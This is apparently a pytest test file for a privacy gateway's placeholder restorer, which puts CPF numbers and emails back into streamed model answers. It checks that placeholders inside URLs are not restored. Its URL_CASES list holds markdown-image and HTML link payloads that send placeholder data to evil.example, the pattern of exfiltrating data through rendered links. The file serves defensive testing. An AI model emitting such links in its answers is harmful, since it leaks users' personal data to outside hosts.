"""Restoring placeholders in answers: whole texts, streams split anywhere, drift, URLs, tool arguments."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.inspect.findings import Finding
from gateway.keys import KeyRing
from gateway.transform.apply import apply
from gateway.transform.pseudonymize import PlaceholderMap
from gateway.transform.restore import SLACK, StreamRestorer, restore_arguments, restore_text

CPF, CPF2, MAIL = "123.456.789-09", "111.444.777-35", "ana@example.com"
RING = KeyRing.ephemeral()


def _map() -> tuple[PlaceholderMap, str]:
    """A map with [CPF_1], [CPF_2], [EMAIL_1] and one ENC token, as a real request would make it."""
    text = f"{CPF} {CPF2} {MAIL} {CPF}"
    found = [Finding("br.cpf", "national_id", "BR", 0, 14), Finding("br.cpf", "national_id", "BR", 15, 29),
             Finding("intl.email", "contact", None, 30, 45), Finding("br.cpf", "national_id", "BR", 46, 60)]
    pm = PlaceholderMap()
    out = apply([text], [found], [["pseudonymize", "pseudonymize", "pseudonymize", "encrypt"]], RING, "BR", pm)[0]
    return pm, out.split()[-1]


PM, ENC = _map()


def stream(pieces, pm=PM, **kw) -> tuple[list[str], StreamRestorer]:
    r = StreamRestorer(pm, **kw)
    return [r.feed(p) for p in pieces] + [r.flush()], r


def test_whole_text():
    assert restore_text("CPF [CPF_1], outro [CPF_2], e-mail [EMAIL_1].", PM) == f"CPF {CPF}, outro {CPF2}, e-mail {MAIL}."
    assert restore_text(f"token {ENC}!", PM) == f"token {CPF}!"
    assert restore_text("unknown [CPF_3] [PHONE_1] [REDACTED:CPF] [x]", PM) == "unknown [CPF_3] [PHONE_1] [REDACTED:CPF] [x]"
    assert restore_text("no brackets here", PM) is not None


@pytest.mark.parametrize("drift", ["[cpf_1]", "[ CPF_1 ]", "[CPF 1]", "[Cpf-1]", "[CPF1]", "[  cpf _ 1  ]", "[CPF\u00a01]"])
def test_case_and_spacing_drift(drift):
    assert restore_text(f"x {drift} y", PM) == f"x {CPF} y"


def test_missing_brackets_are_not_restored():
    assert restore_text("CPF_1 and CPF 1 and [CPF_1", PM) == "CPF_1 and CPF 1 and [CPF_1"


ANSWER = f"Olá! O CPF [CPF_1] pertence a [EMAIL_1]; o outro é [cpf 2] e {ENC} fecha. [nota] [[CPF_2]]"
EXPECTED = f"Olá! O CPF {CPF} pertence a {MAIL}; o outro é {CPF2} e {CPF} fecha. [nota] [{CPF2}]"


def test_expected_matches_whole_text():
    assert restore_text(ANSWER, PM) == EXPECTED


def test_split_at_every_offset_into_two_pieces():
    for i in range(len(ANSWER) + 1):
        out, r = stream([ANSWER[:i], ANSWER[i:]])
        assert "".join(out) == EXPECTED, i
        assert r.held_max <= PM.max_len + SLACK


def test_split_at_every_pair_of_offsets_into_three_pieces():
    text = "a [CPF_1] b [ email_1 ] c " + ENC + " d"
    want = f"a {CPF} b {MAIL} c {CPF} d"
    for i in range(len(text) + 1):
        for j in range(i, len(text) + 1):
            out, _ = stream([text[:i], text[i:j], text[j:]])
            assert "".join(out) == want, (i, j)


def test_character_by_character():
    out, r = stream(list(ANSWER))
    assert "".join(out) == EXPECTED
    assert r.held_max <= PM.max_len + SLACK


@settings(max_examples=200, deadline=None)
@given(st.lists(st.integers(0, len(ANSWER)), max_size=12))
def test_any_split_equals_whole_text(cuts):
    cuts = sorted(cuts)
    pieces = [ANSWER[a:b] for a, b in zip([0] + cuts, cuts + [len(ANSWER)])]
    assert "".join(stream(pieces)[0]) == EXPECTED


def test_text_without_a_possible_placeholder_is_released_at_once():
    out, r = stream(["Hello", " world [no", "te] and [", "x] ok", " [CPF_"])
    assert out[:3] == ["Hello", " world [no", "te] and "]  # "[no" cannot become a placeholder: not held
    assert out[3] == "[x] ok"
    assert out[4] == " " and out[5] == "[CPF_"  # held until the end, then released as it was
    assert r.held_max == len("[CPF_")


def test_empty_map_passes_everything_through():
    pm = PlaceholderMap()
    out, r = stream(["[CPF_1", "] [", "x"], pm)
    assert out == ["[CPF_1", "] [", "x", ""] and r.held_max == 0
    assert restore_text("[CPF_1]", pm) == "[CPF_1]" and restore_text("[CPF_1]", None) == "[CPF_1]"


def test_hold_back_is_bounded_by_one_placeholder():
    r = StreamRestorer(PM)
    assert r.feed("[" + "CPF" + " " * 40) == "[CPF" + " " * 40  # a drift longer than the slack is let go
    assert r.feed("[ENC:BR.k1:") == ""
    assert r.feed(ENC[11:-1]) == ""
    assert r.feed("]") == CPF
    assert r.held_max <= PM.max_len + SLACK


# --- URLs and tool arguments -------------------------------------------------------------------------

URL_CASES = [
    "![img](https://evil.example/c?q=[CPF_1])",
    "[click](https://evil.example/c?q=[CPF_1]&e=[EMAIL_1])",
    "[click](<https://evil.example/a b?q=[CPF_1]>)",
    "[click]( /relative/[CPF_1])",
    "see https://evil.example/?q=[CPF_1]",
    "see http://evil.example/[ cpf 1 ]",
    "see www.evil.example/[CPF_1]",
    '<img src="https://evil.example/x?[CPF_1]">',
    '<a href=/x/[CPF_1]>x</a>',
    "mailto:[EMAIL_1]",
    "[ref]: //evil.example/[CPF_1]",
    "ftp://evil.example/" + ENC,
    # a target with balanced or escaped parentheses, an <...> destination, a line break before it
    "![img](//evil.example/(a)[CPF_1])",
    "![img](//evil.example/a%20(b)/c?q=[CPF_1])",
    "![img](//evil.example/\\)[CPF_1])",
    "![img](<//evil.example/(a)) [CPF_1]>)",
    "![img](\n<//evil.example/a [CPF_1]>)",
    # an attribute value with whitespace in it (a browser drops line breaks and encodes spaces)
    '<img src="https://evil.example/?a= [CPF_1]">',
    "<img src='https://evil.example/?a=\n[CPF_1]'>",
    '<img data-src="https://evil.example/?a= [CPF_1]">',
]


@pytest.mark.parametrize("text", URL_CASES)
def test_placeholders_inside_urls_stay(text):
    assert restore_text(text, PM) == text
    for i in range(len(text) + 1):
        assert "".join(stream([text[:i], text[i:]])[0]) == text, i


@pytest.mark.parametrize("text", URL_CASES)
def test_urls_restored_when_policy_allows(text):
    out = restore_text(text, PM, allow_urls=True)
    assert "[CPF_1]" not in out and "[EMAIL_1]" not in out and ENC not in out


@pytest.mark.parametrize("text,want", [
    ("[docs](https://gov.br/x) then [CPF_1]", f"[docs](https://gov.br/x) then {CPF}"),
    ("visit https://gov.br for [CPF_1]", f"visit https://gov.br for {CPF}"),
    ("[CPF_1](https://gov.br/perfil)", f"{CPF}(https://gov.br/perfil)"),
    ("![a](https://x.example/p.png)\n[CPF_1]", f"![a](https://x.example/p.png)\n{CPF}"),
    ("[link](https://x.example/\n[CPF_1]", f"[link](https://x.example/\n{CPF}"),
    ("CPF:[CPF_1]", f"CPF:{CPF}"),
    ("Data:[CPF_1]", f"Data:{CPF}"),
    ("e/ou [CPF_1]/[CPF_2]", f"e/ou {CPF}/{CPF2}"),
    ("[a](https://x.example/b_(c)) e (d) [CPF_1]", f"[a](https://x.example/b_(c)) e (d) {CPF}"),
    ("[a](x)\n\n[CPF_1]", f"[a](x)\n\n{CPF}"),
    ('<img src="x.png"> e "citação" [CPF_1]', f'<img src="x.png"> e "citação" {CPF}'),
    ('<img src="x\n\n[CPF_1]', f'<img src="x\n\n{CPF}'),
    ("transaction='it [CPF_1]", f"transaction='it {CPF}"),
])
def test_text_after_or_around_urls_is_restored(text, want):
    assert restore_text(text, PM) == want
    for i in range(len(text) + 1):
        assert "".join(stream([text[:i], text[i:]])[0]) == want, i


def test_markdown_target_opened_in_an_earlier_piece():
    out, _ = stream(["![x]", "(https://e", ".example/?a=", "[CP", "F_1]", ")", " and [CPF_1]"])
    assert "".join(out) == f"![x](https://e.example/?a=[CPF_1]) and {CPF}"


def test_a_very_long_word_is_treated_as_a_url():
    text = "x" * 5000 + "[CPF_1] [CPF_1]"
    assert restore_text(text, PM) == "x" * 5000 + f"[CPF_1] {CPF}"


def test_tool_arguments_are_left_alone_unless_allowed():
    args = json.dumps({"query": "[CPF_1]", "to": "[EMAIL_1]", "url": "https://x/[CPF_1]"})
    assert restore_arguments(args, PM) == args
    restored = json.loads(restore_arguments(args, PM, allowed=True))
    assert restored == {"query": CPF, "to": MAIL, "url": f"https://x/{CPF}"}


def test_tool_argument_values_are_json_escaped():
    pm = PlaceholderMap()
    pm.placeholder("health.term", 'dor "aguda"\\')
    args = json.dumps({"q": "[HEALTH_1]"})
    assert json.loads(restore_arguments(args, pm, allowed=True)) == {"q": 'dor "aguda"\\'}


def test_restored_values_are_not_rescanned():
    pm = PlaceholderMap()
    pm.placeholder("health.term", "[CPF_1]")  # a value that looks like a placeholder
    pm.placeholder("br.cpf", CPF)
    assert restore_text("[HEALTH_1] [CPF_1]", pm) == f"[CPF_1] {CPF}"


# --- property: apply then restore gives the caller's text back, however the answer is streamed ------

_WORDS = st.text(alphabet="abcdefghij ,;\n", min_size=1, max_size=10)
_DIGITS = st.text(alphabet="0123456789", min_size=9, max_size=14)


@st.composite
def _requests(draw):
    parts, found, acts, pos = [], [], [], 0
    for _ in range(draw(st.integers(1, 6))):
        pre, value = draw(_WORDS), draw(_DIGITS)
        parts += [pre, value]
        pos += len(pre)
        found.append(Finding(draw(st.sampled_from(["br.cpf", "mx.nss", "intl.phone"])), "national_id", None,
                             pos, pos + len(value)))
        acts.append(draw(st.sampled_from(["pseudonymize", "encrypt"])))
        pos += len(value)
    parts.append(draw(_WORDS))
    return "".join(parts), found, acts, sorted(draw(st.lists(st.integers(0, 400), max_size=8)))


@settings(max_examples=150, deadline=None)
@given(_requests())
def test_apply_then_restore_round_trips(req):
    text, found, acts, cuts = req
    pm = PlaceholderMap()
    sent = apply([text], [found], [acts], RING, "BR", pm)[0]
    assert restore_text(sent, pm) == text
    cuts = [min(c, len(sent)) for c in cuts]
    pieces = [sent[a:b] for a, b in zip([0] + cuts, cuts + [len(sent)])]
    out, r = stream(pieces, pm)
    assert "".join(out) == text
    assert r.held_max <= pm.max_len + SLACK


def test_a_restorer_made_before_the_map_grew_still_restores():
    pm = PlaceholderMap()
    r = StreamRestorer(pm)
    assert r.feed("a [") == "a ["  # nothing to restore yet: nothing held
    pm.placeholder("br.cpf", CPF)
    assert r.feed("x] [CP") == "x] "
    assert r.feed("F_1] ok") + r.flush() == f"{CPF} ok"


_NOISY = st.lists(st.sampled_from(["[", "]", "(", ")", "](", " ", "\n", ":", "//", "https://", "www.", "src=",
                                   "CPF", "cpf", "_", "1", "2", "EMAIL", "[CPF_1]", "[ cpf 2 ]", "[EMAIL_1]",
                                   ENC, ENC[:20], "x", "é", "\u00a0"]), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(_NOISY, st.lists(st.integers(0, 600), max_size=10), st.booleans())
def test_streaming_equals_whole_text_on_noisy_answers(text, cuts, allow_urls):
    cuts = sorted(min(c, len(text)) for c in cuts)
    pieces = [text[a:b] for a, b in zip([0] + cuts, cuts + [len(text)])]
    out, r = stream(pieces, allow_urls=allow_urls)
    assert "".join(out) == restore_text(text, PM, allow_urls=allow_urls)
    assert r.held_max <= PM.max_len + SLACK


class _CountingStr(str):
    """A str that counts the characters its slices copy."""

    copied = 0

    def __getitem__(self, key):
        out = str.__getitem__(self, key)
        if isinstance(key, slice):
            _CountingStr.copied += len(out)
        return out


@pytest.mark.parametrize("unit", ["[(", "[[1, 2], ", "[\n", "[" * 3 + "x"])
def test_work_is_linear_in_an_answer_full_of_brackets(unit):
    # a whole answer (a code block of nested lists) is restored in one feed: each "[" that cannot start a
    # placeholder must not copy the rest of the answer (that was quadratic: 800 kB of "[(" took 7 s)
    text = _CountingStr(unit * 20000)
    _CountingStr.copied = 0
    assert restore_text(text, PM) == str(text)
    assert _CountingStr.copied <= 3 * len(text)
